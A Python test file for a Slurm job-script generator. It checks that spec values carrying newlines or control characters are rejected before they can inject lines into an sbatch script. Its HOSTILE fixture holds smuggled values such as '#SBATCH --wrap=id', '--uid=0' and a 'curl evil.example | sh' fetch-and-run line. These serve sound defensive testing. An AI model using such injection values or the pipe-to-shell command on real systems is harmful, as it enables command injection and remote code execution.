"""Slurm job scripts from a spec: a value reaches an #SBATCH line only as one word, and a setup
line only as one line (no Slurm cluster needed: the script is rendered as submitit writes it)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from addrop_cli.errors import SpecError
from addrop_cli.execution.backends.slurm import SlurmBackend
from addrop_cli.spec.load import load_spec
from addrop_cli.spec.schema import SlurmSpec

submitit_slurm = pytest.importorskip("submitit.slurm.slurm")

SMOKE = Path(__file__).resolve().parents[3] / "experiments" / "smoke.yaml"
HOSTILE = {
    "partition": "gpu\n#SBATCH --wrap=id",
    "account": "lab --wrap=id",
    "qos": "normal\r--uid=0",
    "constraint": "a100\t--wrap=id",
    "setup": ["module load cuda\ncurl evil.example | sh"],
    "extra": {"mail-type": "END\n#SBATCH --wrap=id"},
}


def _script(slurm: SlurmSpec) -> str:
    """The job script submitit would write for an array of two runs of ``slurm``."""
    params = SlurmBackend(slurm).sbatch_parameters("smoke")
    return submitit_slurm._make_sbatch_string(
        command="python -u -m submitit.core._submit /results/smoke/slurm/%j",
        folder="/results/smoke/slurm/%j",
        map_count=2,
        **params,
    )


def test_a_hostile_spec_would_inject_script_lines_and_is_refused() -> None:
    # unchecked (validation bypassed), the values write lines of their own into the script
    unchecked = _script(SlurmSpec.model_construct(**{**SlurmSpec().model_dump(), **HOSTILE}))
    print(unchecked)  # pytest -s shows the script
    lines = unchecked.splitlines()
    assert any(line.startswith("#SBATCH --wrap=id") for line in lines)
    assert "curl evil.example | sh" in lines
    # checked, each hostile value is one error line naming its key, and nothing is rendered
    with pytest.raises(SpecError) as refused:
        load_spec(SMOKE, [f"executor.slurm.{k}={json.dumps(v)}" for k, v in HOSTILE.items()])
    problems = refused.value.problems
    assert len(problems) == len(HOSTILE), problems
    for key, line in zip(HOSTILE, problems, strict=True):
        assert f"executor.slurm.{key} (from override" in line, line
        assert "newline" in line and "control character" in line, line


def test_a_checked_spec_renders_one_sbatch_option_per_line() -> None:
    spec = load_spec(
        SMOKE,
        [
            "executor.slurm.partition=gpu",
            "executor.slurm.account=lab-x",
            "executor.slurm.extra={mail-type: END}",
            'executor.slurm.setup=["module load cuda/12.4"]',
        ],
    )
    script = _script(spec.executor.slurm)
    sbatch = [line for line in script.splitlines() if line.startswith("#SBATCH")]
    for wanted in (
        "--partition=gpu",
        "--account=lab-x",
        "--mail-type=END",
        "--job-name=addrop-smoke",
    ):
        assert f"#SBATCH {wanted}" in sbatch, script
    assert all(len(line.split()) == 2 for line in sbatch), script  # one --key=value each
    assert "module load cuda/12.4" in script.splitlines()
